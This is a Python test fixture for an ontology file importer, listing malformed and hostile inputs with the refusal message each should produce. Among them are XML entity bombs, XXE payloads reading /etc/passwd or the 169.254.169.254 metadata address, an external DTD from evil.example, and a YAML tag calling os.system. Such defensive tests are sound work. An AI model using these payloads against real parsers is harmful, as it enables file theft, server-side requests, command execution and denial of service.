"""Files that no ontology is: what each is called, how it is written, and the place and the words of its refusal."""

from __future__ import annotations

import gzip
from typing import NamedTuple

from app.transfer.files import Form


class Hostile(NamedTuple):
    form: Form
    content: bytes
    said: str  # a part of the sentence
    place: str = "Line 1"


TTL, XML, JLD, NQ, TRIG, YAML, JSON = (
    Form.TURTLE, Form.RDF_XML, Form.JSON_LD, Form.N_QUADS, Form.TRIG, Form.YAML, Form.JSON,
)  # fmt: skip
_RDF = b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:a="http://a.example/">'
_NODE = b'<rdf:Description rdf:about="http://a.example/x"><a:p>%s</a:p></rdf:Description></rdf:RDF>'
_LAUGHS = b'<!DOCTYPE r [\n<!ENTITY a "aaaaaaaaaa">\n' + b"".join(
    b'<!ENTITY %c "%s">\n' % (98 + place, b"&%c;" % (97 + place) * 10) for place in range(10)
) + b"]>\n" + _RDF + _NODE % b"&k;"  # fmt: skip
_QUADRATIC = b'<!DOCTYPE r [<!ENTITY a "' + b"a" * 2_000 + b'">]>\n' + _RDF + _NODE % (b"&a;" * 100_000)
_DOC = b"format: oms-ontology/1\n"

HOSTILE: dict[str, Hostile] = {
    # What is no text, or no text of ours
    "gzip": Hostile(TTL, gzip.compress(b"<a:a> <a:b> <a:c> ."), "compressed by gzip", "Byte 1"),
    "gzip as XML": Hostile(XML, gzip.compress(_RDF), "compressed by gzip", "Byte 1"),
    "a ZIP archive": Hostile(YAML, b"PK\x03\x04rest", "a ZIP archive", "Byte 1"),
    "a PDF": Hostile(JSON, b"%PDF-1.7", "a PDF", "Byte 1"),
    "a program": Hostile(TTL, b"\x7fELF\x02", "a program", "Byte 1"),
    "an image": Hostile(TTL, b"\x89PNG\r\n\x1a\n\x00", "an image", "Byte 1"),
    "UTF-16": Hostile(TTL, "<a:a> <a:b> <a:c> .".encode("utf-16"), "UTF-16, not in UTF-8", "Byte 1"),
    "UTF-32": Hostile(JSON, "{}".encode("utf-32"), "UTF-32, not in UTF-8", "Byte 1"),
    "Latin-1 in Turtle": Hostile(TTL, b"<a:a> <a:b>\n '\xe4' .", "byte 15 is 0xE4", "Line 2, column 3"),
    "Latin-1 in YAML": Hostile(YAML, _DOC + b"typeGroups: \xe4", "not encoded in UTF-8", "Line 2, column 13"),
    "Latin-1 that XML calls UTF-8": Hostile(XML, b"<?xml version='1.0' encoding='UTF-8'?>\n" + _RDF + _NODE % b"\xe4", "not XML", "Line 2"),
    "an encoding that nobody knows": Hostile(XML, b"<?xml version='1.0' encoding='klingon'?>" + _RDF + _NODE % b"", "unknown encoding"),
    "a NUL in Turtle": Hostile(TTL, b"<a:a> <a:b> <a:c> .\n\0", "NUL", "Line 2, column 1"),
    "a NUL in XML": Hostile(XML, _RDF + _NODE % b"\0", "not XML"),
    "a NUL in YAML": Hostile(YAML, _DOC + b"a: \0", "NUL", "Line 2, column 4"),
    "a NUL in JSON": Hostile(JSON, b'{"a": "\0"}', "NUL", "Line 1, column 8"),
    "half a character in Turtle": Hostile(TTL, b'<a:a> <a:b> "\\uD800" .', "lone surrogate"),
    "a long half character in Turtle": Hostile(TTL, b'<a:a> <a:b> "\\U0000DC00" .', "lone surrogate"),
    "half a character in JSON-LD": Hostile(JLD, b'{"@id": "a:a",\n "a:b": "\\ud83d"}', "lone surrogate", "Line 2"),
    "half a character in JSON": Hostile(JSON, b'{"format": "\\udc00"}', "lone surrogate"),
    "half a character in YAML": Hostile(YAML, b'format: "\\ud800"', "lone surrogate"),
    "half a character in XML": Hostile(XML, _RDF + _NODE % b"&#xD800;", "not XML"),
    "half a character in N-Quads": Hostile(NQ, b'<a:a> <a:b> "\\uDFFF" .', "lone surrogate"),
    # What ends too early, or is something else
    "nothing": Hostile(TTL, b"", "holds no statements", ""),
    "white space": Hostile(NQ, b"\n\n  \n", "holds no statements", ""),
    "a truncated statement": Hostile(TTL, b"<a:a> <a:b> <a:c> .\n<a:a> <a:b>", "this is not Turtle", "Line 2"),
    "a truncated text": Hostile(TTL, b'<a:a> <a:b> """abc', "this is not Turtle"),
    "a truncated IRI": Hostile(TTL, b"<a:a> <a:b> <a:c", "this is not Turtle"),
    "an unknown prefix": Hostile(TTL, b"<a:a> <a:b>\n  c:d .", "this is not Turtle", "Line 2"),
    "JSON as Turtle": Hostile(TTL, b'{"a": 1}', "this is not Turtle"),
    "XML as Turtle": Hostile(TTL, b"<?xml version='1.0'?><rdf:RDF/>", "this is not Turtle"),
    "truncated XML": Hostile(XML, _RDF + b"\n<a:p>", "not XML", "Line 2"),
    "HTML": Hostile(XML, b"<!DOCTYPE html>\n<html><body><p>Not found<br></body></html>", "not RDF/XML", "Line 2"),
    "XML without statements": Hostile(XML, b"<a><b>text</b></a>", "not RDF/XML"),
    "RDF/XML against its grammar": Hostile(XML, _RDF + b'\n<a:x rdf:ID="1" rdf:about="b"/></rdf:RDF>', "not RDF/XML", "Line 2"),
    "truncated N-Quads": Hostile(NQ, b"<a:a> <a:b> <a:c> .\n<a:a> <a:b> ", "not N-Quads", "Line 2, column 13"),
    "truncated TriG": Hostile(TRIG, b"<a:g> {\n <a:a> <a:b> <a:c> .", "not TriG", "Line 2"),
    "truncated JSON-LD": Hostile(JLD, b'{"@id":\n', "not JSON", "Line 2"),
    "a number as JSON-LD": Hostile(JLD, b"42", "a map or a list"),
    "JSON-LD with a broken context": Hostile(JLD, b'{"@context": {"a": 5}, "a": "b"}', "holds no statements", ""),
    "JSON-LD with a context that refers to itself": Hostile(JLD, b'{"@context": {"a": "b:c", "b": "a:c"}, "a": "x"}', "refers to itself"),
    "truncated JSON": Hostile(JSON, b'{"format": "oms-ontology/1",\n', "not JSON", "Line 2"),
    "truncated YAML": Hostile(YAML, _DOC + b"objectTypes: [\n", "not YAML", "Line 3"),
    # Bombs, and what names something elsewhere
    "a billion laughs": Hostile(XML, _LAUGHS, "made of other entities", "Line 3"),
    "quadratic entities": Hostile(XML, _QUADRATIC, "more than 10 times as long", "Line 2"),
    "one enormous entity": Hostile(XML, b'<!DOCTYPE r [<!ENTITY a "' + b"a" * 3_000 + b'">]>' + _RDF + _NODE % b"&a;", "up to 1,000 entities"),
    "many entities": Hostile(
        XML, b"<!DOCTYPE r [" + b"".join(b'<!ENTITY e%d "x">' % place for place in range(1_001)) + b"]>" + _RDF + _NODE % b"", "up to 1,000 entities"
    ),
    "a file as an entity": Hostile(
        XML, b'<!DOCTYPE r [\n<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _RDF + _NODE % b"&a;", "stands for another file", "Line 2"
    ),
    "a host as an entity": Hostile(
        XML, b'<!DOCTYPE r [<!ENTITY a SYSTEM "http://169.254.169.254/">]>' + _RDF + _NODE % b"&a;", "stands for another file"
    ),
    "a parameter entity": Hostile(XML, b'<!DOCTYPE r [<!ENTITY % p "x"> %p;]>' + _RDF + _NODE % b"", "parameter entity"),
    "a parameter entity of a host": Hostile(
        XML, b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + _RDF + _NODE % b"", "stands for another file"
    ),
    "an undeclared entity": Hostile(XML, _RDF + _NODE % b"&nbsp;", "not XML"),
    "a remote context": Hostile(JLD, b'{\n"@context": "https://schema.org/", "@type": "Person"}', "https://schema.org/ is not in the file", "Line 2"),
    "a remote context in a list": Hostile(JLD, b'{"@context": [{"a": "b:c"}, "http://a.example/c"]}', "http://a.example/c is not in the file"),
    "a context of the disk": Hostile(JLD, b'{"@context": "file:///etc/passwd"}', "file:///etc/passwd is not in the file"),
    "a relative context": Hostile(JLD, b'{"@context": "context.jsonld"}', "context.jsonld is not in the file"),
    "an imported context": Hostile(JLD, b'{"@context": {"@version": 1.1, "@import": "http://a.example/c"}}', "http://a.example/c is not in the file"),
    "a remote context of a term": Hostile(JLD, b'{"@context": {"a": {"@id": "b:c", "@context": "http://a.example/d"}}}', "a.example/d is not"),
    "a remote context deep inside": Hostile(JLD, b'{"@graph": [{"a:b": {"@context": "http://a.example/e"}}]}', "http://a.example/e is not"),
    "aliases in YAML": Hostile(YAML, b"a: &a [x, x]\nb: &b [*a, *a]\n", "anchors and aliases are not allowed"),
    "merge keys in YAML": Hostile(YAML, b"a: &a {x: 1}\nb:\n  <<: *a\n", "anchors and aliases are not allowed"),
    "tags in YAML": Hostile(YAML, _DOC + b"a: !!python/object/apply:os.system [id]\n", "tags are not allowed", "Line 2"),
    "two documents in YAML": Hostile(YAML, b"---\na: 1\n---\nb: 1\n", "one document", "Line 3"),
    "doubled keys in JSON": Hostile(JSON, b'{"a": 1, "a": 2}', "stands twice"),
    "a number of many digits": Hostile(JSON, b'{"a": ' + b"9" * 5_000 + b"}", "too large a number"),
    # Depth
    "deep blank nodes": Hostile(TTL, b"<a:a> <a:b> " + b"[ <a:b> " * 100_000, "nested too deeply"),
    "deep lists": Hostile(TTL, b"<a:a> <a:b> " + b"( " * 100_000, "nested too deeply"),
    "deep lists in TriG": Hostile(TRIG, b"<a:g> { <a:a> <a:b> " + b"( " * 100_000, "nested too deeply"),
    "deep XML": Hostile(XML, _RDF + b"<a:x><a:p>" * 5_000, "nested more than 500 deep"),
    "deep prefixes": Hostile(
        XML, _RDF + b"<a:x " + b" ".join(b'xmlns:p%d="http://p.example/%d"' % (each, each) for each in range(2_000)) + b"/></rdf:RDF>", "prefixes"
    ),
    "deep JSON-LD": Hostile(JLD, b'{"a:b":' * 100_000, "nested more than 64"),
    "deep JSON": Hostile(JSON, b"[" * 100_000, "nested more than 64"),
    "deep YAML": Hostile(YAML, b"[" * 100_000, "nested more than 64"),
}  # fmt: skip
